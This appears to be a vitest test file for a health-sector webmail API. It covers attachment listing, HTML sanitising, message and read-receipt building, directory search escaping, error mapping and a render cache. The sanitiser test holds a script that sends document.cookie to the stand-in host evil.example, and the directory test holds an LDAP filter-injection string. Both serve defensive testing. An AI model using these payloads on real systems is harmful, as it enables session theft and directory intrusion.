import type { MessageStructureObject } from 'imapflow';
import { simpleParser } from 'mailparser';
import { describe, expect, it } from 'vitest';
import { recipientFilter } from '../../webmail-api/annuaire.js';
import { buildMdn, buildMessage, DEFAULT_NIL } from '../../webmail-api/compose.js';
import { imapError, serverSentence } from '../../webmail-api/imap-errors.js';
import { flagsOf, uidSet } from '../../webmail-api/mailbox.js';
import { attachmentsOf, plain, safeHtml } from '../../webmail-api/render.js';
import { RenderCache } from '../../webmail-api/render-cache.js';
import { smtpError } from '../../webmail-api/submit.js';

// The socket-free parts of the webmail API, on inputs made here.

describe('attachment list from BODYSTRUCTURE', () => {
  it('takes files, embedded messages and non-text leaves; leaves the text and HTML bodies', () => {
    const s: MessageStructureObject = {
      type: 'multipart/mixed',
      childNodes: [
        { part: '1', type: 'multipart/alternative', childNodes: [{ part: '1.1', type: 'text/plain', size: 10 }, { part: '1.2', type: 'text/html', size: 20 }] },
        { part: '2', type: 'application/pdf', disposition: 'attachment', dispositionParameters: { filename: 'cr.pdf' }, size: 400 },
        { part: '3', type: 'text/plain', disposition: 'attachment', dispositionParameters: { filename: 'notes.txt' }, size: 30 },
        { part: '4', type: 'message/rfc822', size: 900, childNodes: [{ part: '4.1', type: 'text/plain' }] },
        { part: '5', type: 'image/png', disposition: 'inline', id: '<logo@x>', size: 50 },
      ],
    };
    expect(attachmentsOf(s).map((a) => [a.index, a.part, a.filename, a.contentType, a.inline, a.contentId])).toEqual([
      [0, '2', 'cr.pdf', 'application/pdf', false, null],
      [1, '3', 'notes.txt', 'text/plain', false, null],
      [2, '4', null, 'message/rfc822', false, null],
      [3, '5', null, 'image/png', true, 'logo@x'],
    ]);
  });

  it('a message that is one non-text part is its own attachment, part 1; a plain text message has none', () => {
    expect(attachmentsOf({ type: 'application/zip', parameters: { name: 'IHE_XDM.zip' }, size: 10 })).toMatchObject([{ index: 0, part: '1', filename: 'IHE_XDM.zip' }]);
    expect(attachmentsOf({ type: 'text/plain', size: 10 })).toEqual([]);
    expect(attachmentsOf(undefined)).toEqual([]);
  });
});

describe('sanitised HTML', () => {
  it('removes scripts, handlers, styles, forms, remote images and javascript: links; keeps text, cid: images and safe links', () => {
    const out = safeHtml(
      '<style>body{display:none}</style><div onmouseover="x()" style="color:red">Texte <i>important</i></div>' +
        '<script>fetch("https://evil.example/"+document.cookie)</script><iframe src="https://evil.example"></iframe>' +
        '<form action="https://evil.example"><input name="p"></form>' +
        '<img src="cid:logo@x" alt="logo"><img src="https://tracker.example/p.gif"><img src="//tracker.example/q.gif">' +
        '<a href="JaVaScRiPt:alert(1)">a</a><a href="mailto:dr@x.fr">b</a>',
    );
    expect(out).not.toMatch(/script|style|onmouseover|iframe|form|input|evil|tracker|javascript/i);
    expect(out).toContain('<div>Texte <i>important</i></div>');
    expect(out).toContain('<img src="cid:logo@x" alt="logo" />');
    expect(out).toContain('<a href="mailto:dr@x.fr" rel="noopener noreferrer nofollow" target="_blank">b</a>');
  });
});

describe('composed messages', () => {
  it('a message from a box: X-MSS-NIL, a receipt request when asked, Bcc only in the envelope, threading headers', async () => {
    const { raw, messageId } = await buildMessage({
      from: 'secretariat@x.fr',
      to: ['a@x.fr'],
      cc: [],
      bcc: ['cache@x.fr'],
      subject: 'Réponse',
      text: 'Bonjour',
      inReplyTo: 'orig@x.fr',
      readReceipt: true,
      attachments: [{ filename: 'a.txt', content: Buffer.from('A') }],
      hostname: 'mss.x.fr',
    });
    expect(messageId).toMatch(/^<[0-9a-f-]{36}@mss\.x\.fr>$/);
    const p = await simpleParser(raw);
    expect(p.headers.get('x-mss-nil')).toBe(DEFAULT_NIL);
    expect((p.headers.get('disposition-notification-to') as { text: string }).text).toBe('secretariat@x.fr');
    expect(p.headers.has('bcc')).toBe(false);
    expect(raw.toString()).not.toContain('cache@x.fr');
    expect(p.inReplyTo).toBe('<orig@x.fr>');
    expect(p.references).toBe('<orig@x.fr>');
    expect(p.subject).toBe('Réponse');
    expect(raw.toString('latin1')).not.toMatch(/[^\r]\n/);
  });

  it('a read receipt is an RFC 8098 multipart/report', async () => {
    const original = Buffer.from('From: a@x.fr\r\nTo: b@x.fr\r\nSubject: Compte rendu\r\nMessage-ID: <m1@x.fr>\r\nDisposition-Notification-To: a@x.fr\r\n\r\nTexte\r\n');
    const { raw } = await buildMdn({ bal: 'b@x.fr', to: 'a@x.fr', original: { raw: original, messageId: '<m1@x.fr>', subject: 'Compte rendu' }, hostname: 'mss.x.fr' });
    const p = await simpleParser(raw);
    expect(p.headers.get('content-type')).toMatchObject({ value: 'multipart/report', params: { 'report-type': 'disposition-notification' } });
    expect(p.inReplyTo).toBe('<m1@x.fr>');
    expect(p.headers.has('disposition-notification-to')).toBe(false);
    const text = raw.toString();
    const report = /Content-Type: message\/disposition-notification\r\n(?:[^\r\n]+\r\n)*\r\n([\s\S]*?)\r\n--/.exec(text)![1];
    expect(report.trimEnd().split('\r\n')).toEqual(['Reporting-UA: mss.x.fr; MSSante webmail API', 'Final-Recipient: rfc822; b@x.fr', 'Original-Message-ID: <m1@x.fr>', 'Disposition: manual-action/MDN-sent-manually; displayed']);
    expect(text).toMatch(/Content-Type: text\/rfc822-headers\r\n(?:[^\r\n]+\r\n)*\r\nFrom: a@x\.fr\r\nTo: b@x\.fr\r\nSubject: Compte rendu/);
  });
});

describe('annuaire filter', () => {
  it('typed words are values: filter syntax is escaped, each word must match', () => {
    const f = recipientFilter('dupont *)(mail=*').toString();
    expect(f).toBe(
      '(&(objectClass=mssBoite)' +
        '(|(cn=*dupont*)(sn=*dupont*)(givenName=*dupont*)(displayName=*dupont*)(mail=*dupont*)(o=*dupont*)(ou=*dupont*)(mssProfession=*dupont*))' +
        '(|(cn=*\\2a\\29\\28mail=\\2a*)(sn=*\\2a\\29\\28mail=\\2a*)(givenName=*\\2a\\29\\28mail=\\2a*)(displayName=*\\2a\\29\\28mail=\\2a*)(mail=*\\2a\\29\\28mail=\\2a*)(o=*\\2a\\29\\28mail=\\2a*)(ou=*\\2a\\29\\28mail=\\2a*)(mssProfession=*\\2a\\29\\28mail=\\2a*)))',
    );
  });
});

describe('error mapping', () => {
  it('SMTP replies: 5.7.x → 403, other 5xx → 422, 4xx → 503, refused token → 401, no answer → 503', () => {
    const e = (responseCode: number | undefined, response: string, extra: object = {}) => Object.assign(new Error('x'), { responseCode, response, ...extra });
    expect(smtpError(e(553, '553 5.7.1 person intrus may not send as s@x.fr: not a member'))).toMatchObject({ code: 'WEBMAIL_SEND_FORBIDDEN', status: 403, message: 'the submission server refused to send: 553 5.7.1 person intrus may not send as s@x.fr: not a member' });
    expect(smtpError(e(undefined, '', { code: 'EENVELOPE', rejectedErrors: [e(550, '550 5.1.1 there is no mailbox p@x.fr at this operator')] }))).toMatchObject({ code: 'WEBMAIL_SEND_REFUSED', status: 422 });
    expect(smtpError(e(451, '451 4.4.3 the directory cannot answer right now'))).toMatchObject({ code: 'WEBMAIL_SEND_DEFERRED', status: 503 });
    expect(smtpError(e(535, '535 5.7.8 authentication failed'))).toMatchObject({ code: 'WEBMAIL_SESSION_INVALID', status: 401 });
    expect(smtpError(Object.assign(new Error('connect ECONNREFUSED'), { code: 'ESOCKET' }))).toMatchObject({ code: 'WEBMAIL_SEND_DEFERRED', status: 503 });
  });

  it('IMAP answers: policy refusal → 403 with its sentence, refused token → 401, no answer → 503', () => {
    const no = (code: string | undefined, response: string, extra: object = {}) => Object.assign(new Error('Command failed'), { responseStatus: 'NO', serverResponseCode: code, response, ...extra });
    const refused = imapError(no('AUTHORIZATIONFAILED', 'A1 NO [AUTHORIZATIONFAILED] person intrus may not open the mailbox s@x.fr: not a member', { authenticationFailed: true }), 'open s@x.fr');
    expect(refused).toMatchObject({ code: 'WEBMAIL_BAL_REFUSED', status: 403, message: 'person intrus may not open the mailbox s@x.fr: not a member' });
    expect(imapError(no('AUTHENTICATIONFAILED', 'A1 NO [AUTHENTICATIONFAILED] authentication failed', { authenticationFailed: true }), 'x')).toMatchObject({ code: 'WEBMAIL_SESSION_INVALID', status: 401 });
    expect(imapError(no('TRYCREATE', 'A5 NO [TRYCREATE] Mailbox does not exist'), 'move', 'folder X of s@x.fr')).toMatchObject({ code: 'NOT_FOUND', message: 'folder X of s@x.fr not found' });
    expect(imapError(no(undefined, 'A6 NO Permission denied'), 'flag message 3')).toMatchObject({ code: 'WEBMAIL_IMAP_REFUSED', status: 422, message: 'the mail store refused to flag message 3: Permission denied' });
    expect(imapError(Object.assign(new Error('connect ECONNREFUSED 127.0.0.1:1'), { code: 'ECONNREFUSED' }), 'open x')).toMatchObject({ code: 'WEBMAIL_IMAP_UNAVAILABLE', status: 503 });
    expect(serverSentence(Object.assign(new Error('m'), { response: 'A1 NO [UNAVAILABLE] try later' }))).toBe('try later');
  });
});

describe('small helpers', () => {
  it('UID sets are compressed into ranges', () => {
    expect(uidSet([9, 1, 2, 3, 7, 10])).toBe('1:3,7,9:10');
    expect(uidSet([5])).toBe('5');
  });

  it('flags: system flags by name, the rest as keywords', () => {
    expect(flagsOf(new Set(['\\Seen', '\\Answered', '$MDNSent', '\\Recent']))).toEqual({ seen: true, flagged: false, answered: true, draft: false, keywords: ['$MDNSent'] });
  });

  it('documents returned to clients carry no bytes and no tables', () => {
    expect(plain({ a: Buffer.from('x'), b: [1, new Map(), { c: new Uint8Array(2), d: 'e' }], t: new Date(0), n: 10n })).toEqual({ b: [1, { d: 'e' }], t: '1970-01-01T00:00:00.000Z', n: '10' });
  });
});

describe('rendered copies (render-cache.ts)', () => {
  it('keys a copy by box (any case), folder, UIDVALIDITY and UID', () => {
    const c = new RenderCache<string>(1000);
    c.put(RenderCache.key('Jeanne@X', 'INBOX', '7', 3), 'a', 10);
    expect(c.get(RenderCache.key('jeanne@x', 'INBOX', '7', 3))).toBe('a');
    for (const k of [RenderCache.key('jeanne@x', 'INBOX', '8', 3), RenderCache.key('jeanne@x', 'Sent', '7', 3), RenderCache.key('jeanne@x', 'INBOX', '7', 4), RenderCache.key('autre@x', 'INBOX', '7', 3)]) expect(c.get(k)).toBeUndefined();
  });

  it('stays within its bytes, least recently used out first; one copy over an eighth of the bound is not kept', () => {
    const c = new RenderCache<number>(800);
    for (let i = 1; i <= 8; i++) c.put(String(i), i, 100);
    expect(c.heldBytes).toBe(800);
    expect(c.get('1')).toBe(1); // used: now the most recent
    c.put('9', 9, 100);
    expect(c.get('2')).toBeUndefined();
    expect(c.get('1')).toBe(1);
    expect(c.heldBytes).toBe(800);
    c.put('big', 0, 101);
    expect(c.get('big')).toBeUndefined();
    c.put('9', 9, 50); // a copy replaced counts once
    expect([c.size, c.heldBytes]).toEqual([8, 750]);
  });
});
